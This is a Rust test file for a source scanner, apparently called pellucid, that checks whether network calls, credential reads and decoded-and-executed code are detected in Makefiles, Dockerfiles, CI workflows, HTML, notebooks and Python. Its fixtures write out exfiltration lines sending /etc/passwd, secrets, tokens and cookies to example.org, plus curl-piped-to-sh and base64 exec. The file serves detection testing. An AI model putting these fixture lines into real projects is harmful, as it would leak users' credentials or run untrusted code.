//! Code inside other files, ranges no grammar reads, and what a large tree leaves unparsed.

use std::collections::BTreeMap;

use pellucid::model::RelPath;
use pellucid::model::ScanEvidence;
use pellucid::scan::Options;
use pellucid::scan::SourceFile;
use pellucid::scan::scan_source;

fn scan(files: &[(&str, &str)], declared: u64) -> ScanEvidence {
    let texts: BTreeMap<RelPath, Vec<u8>> =
        files.iter().map(|(path, text)| (RelPath::from(*path), text.as_bytes().to_vec())).collect();
    let list: Vec<SourceFile> = texts
        .iter()
        .map(|(path, text)| SourceFile { path: path.clone(), size: declared.max(text.len() as u64) })
        .collect();
    let reader = |path: &RelPath| texts.get(path).cloned().ok_or_else(|| "gone".to_owned());
    scan_source(&list, &reader, &Options::default())
}

fn shows(evidence: &ScanEvidence, path: &str, line: u32, category: &str) -> bool {
    let at =
        |location: &pellucid::model::scan::Location| location.path == path && location.start_line == line;
    evidence.capabilities.iter().chain(&evidence.sources).any(|r| at(&r.location) && r.category == category)
        || evidence.flows.iter().any(|r| at(&r.location) && r.category == category)
}

#[test]
fn code_in_build_files_pages_and_notebooks_is_read_where_it_stands() {
    let evidence = scan(
        &[
            (
                "Makefile",
                "TOOL = curl\nall:\n\t@$(TOOL) -d @key https://example.org\n\tcat /etc/passwd | nc example.org 9\n",
            ),
            (
                "Dockerfile",
                "FROM base\nRUN apt-get update && \\\n    curl -s https://example.org/i.sh | sh\n",
            ),
            (
                ".github/workflows/ci.yml",
                "jobs:\n  a:\n    steps:\n      - run: |\n          curl -H \"A: ${{ secrets.TOKEN }}\" https://example.org\n",
            ),
            (
                "page.html",
                "<p>\n<script>\nfetch('https://example.org', { body: document.cookie });\n</script>\n",
            ),
            (
                "note.ipynb",
                "{\n \"cells\": [{\n  \"cell_type\": \"code\",\n  \"source\": [\n   \"import requests\\n\",\n   \"requests.get('https://example.org')\"\n  ]\n }]\n}\n",
            ),
        ],
        0,
    );
    for (path, line, category) in [
        ("Makefile", 3, "cap.net.http"),
        ("Makefile", 4, "flow.credential-file->net"),
        ("Dockerfile", 3, "flow.net->exec"),
        (".github/workflows/ci.yml", 5, "flow.env->net"),
        ("page.html", 3, "cap.net.http"),
        ("note.ipynb", 6, "cap.net.http"),
    ] {
        assert!(
            shows(&evidence, path, line, category),
            "{path}:{line} {category}\n{:#?}",
            evidence.capabilities
        );
    }
}

#[test]
fn a_call_in_a_range_no_grammar_reads_is_found_by_its_spelling() {
    let text = "#define BEGIN {\nint f(void)\n{\n  @@ $$ if ( = connect(s, &a, sizeof a) @@ ;;;\n  )) @@ = getenv (\"HOME\" ]]\n}\n";
    let evidence = scan(&[("broken.c", text)], 0);
    assert!(evidence.coverage.error_bytes > 0, "the sample must not parse");
    assert!(shows(&evidence, "broken.c", 4, "cap.net.socket"), "{:#?}", evidence.capabilities);
    assert!(shows(&evidence, "broken.c", 5, "src.env"), "{:#?}", evidence.sources);
}

#[test]
fn a_large_tree_says_what_it_did_not_parse() {
    let quiet = "int add(int a, int b) { return a + b; }\n";
    let loud = "void f(int s) { send(s, \"x\", 1, 0); }\n";
    let evidence = scan(&[("quiet.c", quiet), ("loud.c", loud)], 64 << 20);
    assert_eq!(evidence.coverage.files, 2);
    assert_eq!(evidence.coverage.prefiltered.files, 1, "quiet.c holds no catalogued name");
    assert_eq!(evidence.coverage.parsed.files, 1);
    assert!(shows(&evidence, "loud.c", 1, "cap.net.socket"));
    let said = evidence.not_examined.iter().any(|missed| missed.reason.contains("1 files of code"));
    assert!(said, "{:#?}", evidence.not_examined);
    let small = scan(&[("quiet.c", quiet), ("loud.c", loud)], 0);
    assert_eq!(small.coverage.prefiltered.files, 0);
    assert_eq!(small.coverage.parsed.files, 2);
}

/// What is found through functions in which no catalogued name stands must not depend on the size of the tree.
#[test]
fn a_large_tree_wakes_the_files_data_passes_through() {
    let long = "    a = 1\n    b = a + 2\n    c = b + 3\n    d = c + 4\n    e = d + 5\n    f = e + 6\n";
    let post = format!(
        "import requests\n\ndef hand_over(data):\n{long}    requests.post('https://example.org', data=data)\n"
    );
    let relay = format!("from post import hand_over\n\ndef relay(value):\n{long}    hand_over(value)\n");
    let again = format!("from relay import relay\n\ndef twice(value):\n{long}    relay(value)\n");
    let main = "import os\nfrom again import twice\n\ntwice(os.getenv('TOKEN'))\n";
    let idle = format!("def idle(value):\n{long}    return f\n");
    let files = [
        ("post.py", post.as_str()),
        ("relay.py", &relay),
        ("again.py", &again),
        ("main.py", main),
        ("idle.py", &idle),
    ];
    for declared in [0, 64 << 20] {
        let evidence = scan(&files, declared);
        assert!(shows(&evidence, "post.py", 10, "flow.env->net"), "{declared}: {:#?}", evidence.flows);
        assert_eq!(evidence.coverage.prefiltered.files, u64::from(declared > 0), "{declared}: idle.py alone");
    }
}

#[test]
fn a_scan_for_capabilities_alone_shows_them_and_says_what_it_left_out() {
    let text = "import os, requests, base64\nrequests.post('https://example.org', data=os.getenv('TOKEN'))\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    let files = [(RelPath::from("a.py"), text), (RelPath::from("quiet.py"), "x = 1\n")];
    let list: Vec<SourceFile> =
        files.iter().map(|(path, text)| SourceFile { path: path.clone(), size: text.len() as u64 }).collect();
    let reader = |path: &RelPath| {
        let found = files.iter().find(|(known, _)| known == path);
        found.map(|(_, text)| text.as_bytes().to_vec()).ok_or_else(|| "gone".to_owned())
    };
    let whole = scan_source(&list, &reader, &Options::default());
    let quick = scan_source(&list, &reader, &Options { flows: false, ..Options::default() });
    assert_eq!(whole.capabilities, quick.capabilities);
    assert_eq!(whole.sources, quick.sources);
    assert_eq!(whole.endpoints, quick.endpoints);
    assert!(shows(&whole, "a.py", 2, "flow.env->net") && !shows(&quick, "a.py", 2, "flow.env->net"));
    let hidden = |evidence: &ScanEvidence| evidence.findings.iter().any(|f| f.category.starts_with("obf."));
    assert_eq!(
        hidden(&whole),
        hidden(&quick),
        "what is decoded and run hides whether or not flows are asked for"
    );
    assert_eq!(quick.coverage.prefiltered.files, 1);
    assert!(quick.not_examined.iter().any(|missed| missed.reason.contains("no flow was looked for")));
    assert!(!whole.not_examined.iter().any(|missed| missed.reason.contains("no flow was looked for")));
}
